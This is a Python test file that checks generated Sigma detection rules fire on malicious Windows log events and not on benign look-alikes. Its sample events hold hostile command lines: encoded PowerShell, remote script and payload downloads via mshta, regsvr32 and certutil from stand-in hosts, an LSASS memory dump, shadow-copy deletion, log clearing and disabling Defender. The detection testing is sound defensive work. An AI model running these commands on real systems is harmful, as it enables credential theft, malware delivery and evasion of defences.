"""Every generated rule, run as SQL (pySigma's sqlite backend) over sample log events, fires on
the malicious event and not on the benign look-alike."""

from __future__ import annotations

import functools
import sqlite3

import pytest
from sigma.backends.sqlite.sqlite import sqliteBackend
from sigma.collection import SigmaCollection

from services.handler.plugins.threat_intel.behaviours import BEHAVIOURS
from tests.unit.test_threat_intel_pipeline import BEHAVIOURS as BEHAVIOUR_REPORT
from tests.unit.test_threat_intel_pipeline import DEFANGED, MIXED, generate

FIELDS = ("Image", "CommandLine", "ParentImage", "TargetImage", "GrantedAccess", "TargetObject", "DestinationIp",
          "QueryName", "cs-host", "c-uri", "Hashes", "ImageLoaded", "TargetFilename")  # fmt: skip
SYS32 = "C:\\Windows\\System32\\"
PS = f"{SYS32}WindowsPowerShell\\v1.0\\powershell.exe"
Event = dict[str, str]
# Per rule title: (the malicious event, a benign one that resembles it).
SAMPLES: dict[str, tuple[Event, Event]] = {
    "PowerShell run with an encoded command": (
        {"Image": PS, "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"},
        {"Image": PS, "CommandLine": "powershell.exe -File C:\\scripts\\backup.ps1"}),
    "Mshta running a remote or inline script": (
        {"Image": f"{SYS32}mshta.exe", "CommandLine": "mshta.exe https://cdn-updates.top/inv.hta"},
        {"Image": f"{SYS32}mshta.exe", "CommandLine": "mshta.exe \"C:\\Program Files\\Vendor\\help.hta\""}),
    "Regsvr32 loading a remote scriptlet": (
        {"Image": f"{SYS32}regsvr32.exe", "CommandLine": "regsvr32 /s /n /u /i:http://x.top/f.sct scrobj.dll"},
        {"Image": f"{SYS32}regsvr32.exe", "CommandLine": "regsvr32 /s \"C:\\Program Files\\App\\comp.dll\""}),
    "Rundll32 loading a DLL from a user-writable folder": (
        {"Image": f"{SYS32}rundll32.exe", "CommandLine": "rundll32.exe C:\\Users\\bob\\AppData\\Roaming\\o.dll,Go"},
        {"Image": f"{SYS32}rundll32.exe", "CommandLine": f"rundll32.exe {SYS32}shell32.dll,Control_RunDLL"}),
    "LSASS memory read with dumping access rights": (
        {"TargetImage": f"{SYS32}lsass.exe", "GrantedAccess": "0x1010"},
        {"TargetImage": f"{SYS32}lsass.exe", "GrantedAccess": "0x1000"}),
    "LSASS dumped through comsvcs MiniDump": (
        {"Image": f"{SYS32}rundll32.exe", "CommandLine": f"rundll32 {SYS32}comsvcs.dll, MiniDump 624 l.dmp full"},
        {"Image": f"{SYS32}rundll32.exe", "CommandLine": f"rundll32 {SYS32}comsvcs.dll,DllRegisterServer"}),
    "Shell started by the WMI provider host": (
        {"ParentImage": f"{SYS32}wbem\\WmiPrvSE.exe", "Image": PS},
        {"ParentImage": "C:\\Windows\\explorer.exe", "Image": PS}),
    "Scheduled task created from the command line": (
        {"Image": f"{SYS32}schtasks.exe", "CommandLine": "schtasks /create /tn Upd /tr C:\\Users\\Public\\u.exe"},
        {"Image": f"{SYS32}schtasks.exe", "CommandLine": "schtasks /query /fo LIST"}),
    "Run key value written": (
        {"TargetObject": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"},
        {"TargetObject": "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced\\Hidden"}),
    "Shadow copies or recovery deleted": (
        {"Image": f"{SYS32}vssadmin.exe", "CommandLine": "vssadmin.exe delete shadows /all /quiet"},
        {"Image": f"{SYS32}vssadmin.exe", "CommandLine": "vssadmin.exe list shadows"}),
    "Domain trusts enumerated": (
        {"Image": f"{SYS32}nltest.exe", "CommandLine": "nltest.exe /domain_trusts /all_trusts"},
        {"Image": f"{SYS32}nltest.exe", "CommandLine": "nltest.exe /sc_query:corp"}),
    "Current user and privileges listed with whoami": (
        {"Image": f"{SYS32}whoami.exe", "CommandLine": "whoami.exe /all"},
        {"Image": f"{SYS32}whoami.exe", "CommandLine": "whoami.exe"}),
    "Windows utility downloading a file": (
        {"Image": f"{SYS32}certutil.exe", "CommandLine": "certutil -urlcache -split -f http://x.top/a.exe a.exe"},
        {"Image": f"{SYS32}certutil.exe", "CommandLine": "certutil -hashfile a.exe SHA256"}),
    "Shell started by a web server process": (
        {"ParentImage": f"{SYS32}inetsrv\\w3wp.exe", "Image": f"{SYS32}cmd.exe"},
        {"ParentImage": f"{SYS32}inetsrv\\w3wp.exe", "Image": "C:\\Windows\\Microsoft.NET\\csc.exe"}),
    "Windows event log cleared with wevtutil": (
        {"Image": f"{SYS32}wevtutil.exe", "CommandLine": "wevtutil.exe cl Security"},
        {"Image": f"{SYS32}wevtutil.exe", "CommandLine": "wevtutil.exe qe Security /c:5"}),
    "Microsoft Defender protection turned off": (
        {"Image": PS, "CommandLine": "powershell Set-MpPreference -DisableRealtimeMonitoring $true"},
        {"Image": PS, "CommandLine": "powershell Get-MpPreference"}),
    # Indicator rules of the defanged report.
    "Network connection to 45.77.12.9 or 185.220.101.47": (
        {"DestinationIp": "185.220.101.47"}, {"DestinationIp": "52.96.12.1"}),
    "DNS query for cdn-updates.top, update-check.net or telemetry-sync.org": (
        {"QueryName": "beacon.update-check.net"}, {"QueryName": "notupdate-check.net"}),
    "Web request for cdn-updates.top/inv.hta": (
        {"cs-host": "cdn-updates.top", "c-uri": "/inv.hta"}, {"cs-host": "cdn-updates.top", "c-uri": "/index.html"}),
    "Process started from a file with the hash of invoice_0312.lnk": (
        {"Hashes": "MD5=00,SHA256=0F3C6B0D7A1B4E5F9A8C2D3E4F5A6B7C8D9E0F1A2B3C4D5E6F708192A3B4C5D6"},
        {"Hashes": "MD5=00,SHA256=1F3C6B0D7A1B4E5F9A8C2D3E4F5A6B7C8D9E0F1A2B3C4D5E6F708192A3B4C5D6"}),
    "Library loaded with the hash of orchid.dll": (
        {"Hashes": "SHA1=2FD4E1C67A2D28FCED849EE1BB76E7391B93EB12,MD5=00"}, {"Hashes": "SHA1=00,MD5=00"}),
    "File invoice_0312.lnk written": (
        {"TargetFilename": "C:\\Users\\bob\\Downloads\\invoice_0312.lnk"},
        {"TargetFilename": "C:\\Users\\bob\\Downloads\\invoice_0313.lnk"}),
    "Library orchid.dll loaded": (
        {"ImageLoaded": "C:\\Users\\bob\\AppData\\Roaming\\orchid.dll"}, {"ImageLoaded": f"{SYS32}orchid32.dll"}),
    # Indicator rules of the mixed report.
    "Network connection to 91.215.85.17 or 2a05:d014:5c0:2600::1f": (
        {"DestinationIp": "2a05:d014:5c0:2600::1f"}, {"DestinationIp": "2a05:d014:5c0:2600::2f"}),
    "DNS query for invoices-secure.com or files-share.xyz": (
        {"QueryName": "files-share.xyz"}, {"QueryName": "files-share.xyz.example.net"}),
    "Web request for 91.215.85.17/gate.php": (
        {"cs-host": "91.215.85.17", "c-uri": "/gate.php?id=7"}, {"cs-host": "91.215.85.18", "c-uri": "/gate.php"}),
    "Process started from a file with the hash of 8c1f0b4e2d6a…": (
        {"Hashes": "SHA256=8C1F0B4E2D6A9F3B7C5E1D0A2B4C6E8F0A1B3C5D7E9F1A2B4C6D8E0F1A3B5C7D"},
        {"Hashes": "SHA256=9C1F0B4E2D6A9F3B7C5E1D0A2B4C6E8F0A1B3C5D7E9F1A2B4C6D8E0F1A3B5C7D"}),
    "File archive.7z or errorEE.aspx written": (
        {"TargetFilename": "C:\\inetpub\\wwwroot\\owa\\auth\\errorEE.aspx"},
        {"TargetFilename": "C:\\inetpub\\wwwroot\\owa\\auth\\error.aspx"}),
    "Script update.ps1 on a command line": (
        {"Image": PS, "CommandLine": "powershell -ep bypass -File C:\\Temp\\update.ps1"},
        {"Image": PS, "CommandLine": "powershell -File C:\\Temp\\updates.ps1"}),
}  # fmt: skip


def matching(rule_yaml: str, events: list[Event]) -> list[int]:
    """Indexes of the events the rule's SQL selects, from an in-memory table of them."""
    (rule,) = SigmaCollection.from_yaml(rule_yaml).rules
    (query,) = sqliteBackend().convert_rule(rule)  # type: ignore[no-untyped-call]  # the backend has no hints
    db = sqlite3.connect(":memory:")
    # Sigma matches strings case-insensitively, as NOCASE columns do for equality.
    columns = ", ".join(f"`{field}` TEXT COLLATE NOCASE" for field in FIELDS)
    db.execute(f"CREATE TABLE logs (event_index INTEGER, {columns})")
    for index, event in enumerate(events):
        names = ", ".join(f"`{field}`" for field in event)
        db.execute(f"INSERT INTO logs (event_index, {names}) VALUES (?{', ?' * len(event)})", [index, *event.values()])
    return [row[0] for row in db.execute(query)]


@functools.cache  # generating is the slow part; the rules are the same for every sample
def all_rules() -> list[dict[str, str]]:
    return [rule for report in (DEFANGED, BEHAVIOUR_REPORT, MIXED) for rule in generate(report)["rules"]]


def test_every_generated_rule_and_every_behaviour_has_samples() -> None:
    assert {rule["title"] for rule in all_rules()} <= set(SAMPLES)
    assert {behaviour.title for behaviour in BEHAVIOURS} <= set(SAMPLES)


@pytest.mark.parametrize("title", sorted(SAMPLES))
def test_a_rule_fires_on_its_malicious_sample_and_not_on_the_benign_one(title: str) -> None:
    rules = {rule["title"]: rule for rule in all_rules()}
    if title not in rules:  # a behaviour no fixture names: generate it from a report naming its technique
        (behaviour,) = [b for b in BEHAVIOURS if b.title == title]
        rules = {rule["title"]: rule for rule in generate(f"Seen: {behaviour.technique}.")["rules"]}
    malicious, benign = SAMPLES[title]
    assert matching(rules[title]["yaml"], [benign, malicious]) == [1]
